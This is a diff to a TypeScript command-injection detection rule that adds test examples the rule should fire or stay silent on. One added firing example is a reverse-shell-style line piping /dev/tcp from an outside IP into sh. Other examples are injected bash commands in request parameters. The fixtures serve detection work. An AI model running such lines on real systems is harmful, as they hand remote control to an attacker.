@@ -127,6 +127,7 @@ export const rule: Rule = {
   ],
   examples: {
     fires: [
+      "bash -c '</dev/tcp/203.0.113.7/4444 sh'",
       'sh -c "echo \'ping -c 4 8.8.8.8\' >> /tmp/art.sh"',
       '/get?932236-1=bash -c "echo test"',
       'code=nohup sh -c whoami',
@@ -142,6 +143,7 @@ export const rule: Rule = {
       'bash -c \'echo "$(</home/a/notes)"\'',
     ],
     silent: [
+      "timeout 1 bash -c '</dev/tcp/db/5432' && echo open",
       '"start": "node -i -e \'YAML=require(\\"./src/index.ts\\");const {parse}=YAML\'"',
       'node -p "process.env.npm_command" | npx tool',
       'node -e \'require("assert")(!require("./package.json").private)\'',
